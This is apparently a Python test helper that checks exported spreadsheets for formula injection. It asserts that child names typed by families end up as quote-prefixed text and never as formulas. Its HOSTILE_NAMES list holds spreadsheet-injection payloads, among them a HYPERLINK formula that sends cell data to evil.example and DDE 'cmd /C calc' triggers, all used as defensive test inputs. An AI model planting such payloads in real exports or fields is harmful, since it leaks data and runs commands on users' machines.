"""Assertions on downloaded spreadsheets, shared by the export tests of every app."""

from __future__ import annotations

from io import BytesIO
from typing import Any
from urllib.parse import unquote

from openpyxl import load_workbook

# Names a family may type for a child, each a formula or a formula trigger in a spreadsheet.
HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?"&B4&C4,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def workbook_of(content: bytes) -> Any:
    return load_workbook(BytesIO(content))


def formula_cells(workbook: Any) -> list[str]:
    """Every cell of every sheet stored as a formula, as «Sheet!A1»."""
    return [
        f"{ws.title}!{cell.coordinate}"
        for ws in workbook.worksheets
        for row in ws.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def text_values(workbook: Any) -> list[str]:
    return [
        cell.value
        for ws in workbook.worksheets
        for row in ws.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    ]


def cells_with(workbook: Any, text: str) -> list[Any]:
    return [
        cell
        for ws in workbook.worksheets
        for row in ws.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and text in cell.value
    ]


def assert_shown_as_text(workbook: Any, text: str) -> None:
    """No formula anywhere; the text is in a text cell, exactly as typed, marked with the quote
    prefix so a spreadsheet program keeps it text even when the cell is edited."""
    assert formula_cells(workbook) == []
    found = cells_with(workbook, text)
    assert found, text
    for cell in found:
        assert cell.data_type == "s"
        assert cell.quotePrefix, cell.coordinate


def download_filename(response: Any) -> str:
    """The name a browser saves the download under (the RFC 5987 filename*)."""
    header = response["Content-Disposition"]
    assert header.startswith("attachment;"), header
    star = header.split("filename*=UTF-8''", 1)[1].split(";", 1)[0]
    return unquote(star)


def ascii_fallback(response: Any) -> str:
    header = response["Content-Disposition"]
    fallback = header.split('filename="', 1)[1].split('"', 1)[0]
    assert fallback.isascii(), fallback
    return fallback
